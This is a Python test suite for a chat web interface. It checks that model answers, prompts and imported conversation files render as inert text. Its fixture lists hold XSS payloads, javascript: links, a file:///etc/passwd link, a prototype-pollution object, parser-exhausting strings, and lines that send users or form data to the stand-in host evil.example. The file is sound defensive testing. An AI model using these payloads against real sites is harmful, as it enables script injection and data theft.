"""A model's answer is hostile input: whatever it says is shown as text. The real server answers each of these word for
word, because a grammar leaves the model no other choice."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest

from tests.support.server import Server
from tests.web.conftest import Chat, Open

FENCE = "`" * 3
HTML = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<a href='javascript:window.hit=1' autofocus onfocus=window.hit=1>x</a>",
    "<style>@import 'https://evil.example/x.css';</style><link rel=stylesheet href=https://evil.example/y.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><form action=https://evil.example/><input name=key></form>",
    "<template><script>window.hit=1</script></template><math><mi xlink:href='javascript:window.hit=1'>x</mi></math>",
    "</textarea></script></style></title><script>window.hit=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62;",
]
MARKDOWN = [
    "[click](javascript:window.hit=1) [a](JaVaScRiPt:window.hit=1) [b](&#106;avascript:window.hit=1)",
    "[c](data:text/html,<script>window.hit=1</script>) [d](vbscript:x) [e](\tjava\tscript:window.hit=1)",
    "[f](//evil.example/x) [g](/v1/models) [h](file:///etc/passwd) [i](blob:https://evil.example/1)",
    "![track](https://evil.example/track.png) ![](https://evil.example/x.svg) ![x](data:image/svg+xml,<svg/>)",
    '[x](https://evil.example/"onmouseover="window.hit=1) <https://evil.example/"onclick=window.hit=1>',
    f"{FENCE}html onload=window.hit=1\n<script>window.hit=1</script>\n{FENCE}",
    f'{FENCE}"><img src=x onerror=window.hit=1>\n</code></pre><script>window.hit=1</script>',
    "| a | <img src=x onerror=window.hit=1> |\n|---|---|\n| `<b>` | **<i onclick=window.hit=1>x</i>** |",
    "# <script>window.hit=1</script>\n> <img src=x onerror=window.hit=1>\n\n1. <b>x</b>\n   - **<u>y</u>**",
    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} <%= 1 %> [[__proto__]]: https://evil.example",
]
ALLOWED = {
    *("p br strong em del code pre div span button a ul ol li hr h3 h4 h5".upper().split()),
    *("blockquote table thead tbody tr th td".upper().split()),
}
LONG = {
    "emphasis": "*a **b _c " * 4000,
    "brackets": "[" * 40_000,
    "images": "![](" * 10_000,
    "ticks": "`a``b" * 8000,
    "quotes": ">" * 20_000 + "x",
    "lists": "\n".join(" " * (n % 90) + "- x" for n in range(4000)),
    "pipes": "|".join("a" * 20_000) + "\n" + "|-" * 20_000 + "|",
    "links": "http://" * 6000,
    "fences": ("~~~\n" + FENCE + "\n") * 5000,
    "strings": FENCE + "c\n" + "\"'/*" * 10_000,
    "stacked": "ก" + "่" * 20_000,
}
"""what takes quadratic time, or a stack, where somebody reads it carelessly"""


def check_inert(chat: Chat, shown: str) -> None:
    tab = chat.tab
    assert tab.js("window.hit") is None, shown
    names = set(tab.js("[...document.querySelectorAll('.body *')].map((node) => node.tagName.toUpperCase())"))
    assert names <= ALLOWED, (names - ALLOWED, shown)
    attributes = set(tab.js("[...document.querySelectorAll('.body *')].flatMap((node) => node.getAttributeNames())"))
    known = {
        "class",
        "role",
        "tabindex",
        "aria-label",
        "aria-description",
        "href",
        "title",
        "target",
        "rel",
        "type",
        "start",
    }
    assert attributes <= known, (attributes - known, shown)
    for link in tab.js("[...document.querySelectorAll('.body a')].map((node) => [node.href, node.rel, node.target])"):
        assert link[0].startswith(("http://", "https://")) and link[2] == "_blank", (link, shown)
        assert "noopener" in link[1] and "noreferrer" in link[1]
    assert tab.js("location.pathname") == "/" and tab.js("document.baseURI.startsWith(location.origin)")


@pytest.mark.parametrize("heat", [False, True], ids=["markdown", "tokens"])
def test_whatever_a_model_says_is_text(chat: Chat, heat: bool) -> None:
    """That nothing was asked of another host is looked at by `open_chat`."""
    if heat:
        chat.tab.click("#heat")
    for text in HTML + MARKDOWN:
        chat.tab.click("#new")
        chat.set(more={"structured_outputs": {"choice": [text]}})
        chat.ask("Say it.")
        message = chat.tab.js("document.querySelector('.message.assistant > .body').textContent")
        if heat or text in HTML:
            assert message.strip() == text
        check_inert(chat, text)


def test_titles_prompts_and_files_are_text_as_well(open_chat: Open, server: Server) -> None:
    chat = open_chat(server).ready()
    for text in HTML[:4]:
        chat.tab.click("#new")
        chat.set(system=text, max_tokens=2)
        chat.ask(text)
        assert chat.tab.js("document.querySelector('.message.user > .body').textContent") == text
        assert chat.tab.js("document.querySelector('#title').textContent") == text[:60]
        chat.tab.click("#request")
        assert json.dumps(text) in chat.code()
        chat.tab.press("Escape")
        check_inert(chat, text)
    assert chat.tab.js("document.querySelectorAll('#list img, #list script').length") == 0


@pytest.mark.parametrize("name", LONG)
def test_no_text_takes_the_page_long(open_chat: Open, server: Server, name: str, tmp_path: Path) -> None:
    """Tens of thousands of characters, far more than the demo's context holds, so they come as a file."""
    nodes = {
        "root": {"kids": ["a"], "pick": "a"},
        "a": {"role": "user", "text": "Say it.", "kids": ["b"], "pick": "b"},
        "b": {"role": "assistant", "text": LONG[name], "kids": ["a", "b", "missing"], "pick": "b"},
    }
    told = {"format": "gptq-api conversations", "version": 1, "conversations": [{"title": name, "nodes": nodes}]}
    file = tmp_path / "talk.json"
    file.write_text(json.dumps(told))
    chat = open_chat(server).ready()
    begun = time.monotonic()
    chat.tab.choose_file("#file", file)
    chat.tab.wait("document.querySelector('.message.assistant')", 60)
    chat.tab.js("document.body.offsetHeight")
    assert time.monotonic() - begun < 20, "a busy machine takes some, a careless reader minutes"
    check_inert(chat, name)


def test_a_hostile_file_brings_no_property_and_no_code(open_chat: Open, server: Server, tmp_path: Path) -> None:
    bad: dict[str, Any] = {
        "role": "system",
        "text": 7,
        "kids": ["__proto__", "constructor", "b"],
        "pick": "__proto__",
        "error": "<b>x</b>",
    }
    bad["tokens"] = [[0, 9, -1, [["<img src=x onerror=window.hit=1>", -1]]], "x"]
    fine: dict[str, Any] = {
        "role": "assistant",
        "text": "ab",
        "kids": [],
        "seed": "<i>",
        "finish": "<img src=x onerror=window.hit=1>",
    }
    fine["tokens"] = [[0, 1, -2, [["<img src=x onerror=window.hit=1>", -3], [None, -1], [5, "x"]]], [1, 2, -0.1, []]]
    text = json.dumps(
        {"nodes": {"root": {"kids": ["a"], "pick": "a"}, "a": bad, "b": fine}, "settings": {"system": 5, "x": "y"}}
    )
    text = text.replace('"settings"', '"__proto__": {"polluted": true}, "settings"')
    file = tmp_path / "talk.json"
    file.write_text('{"format": "gptq-api conversations", "version": 1, "conversations": [' + text + "]}")
    chat = open_chat(server).ready()
    chat.tab.choose_file("#file", file)
    chat.tab.wait("document.querySelectorAll('.message').length === 2")
    assert chat.tab.js("({}).polluted") is None
    chat.tab.click("#heat")
    chat.tab.click(".token", "a")
    assert "<img␣src=x␣onerror=window.hit=1>" in chat.tab.js("document.querySelector('#choices-list').innerText")
    check_inert(chat, "a file")
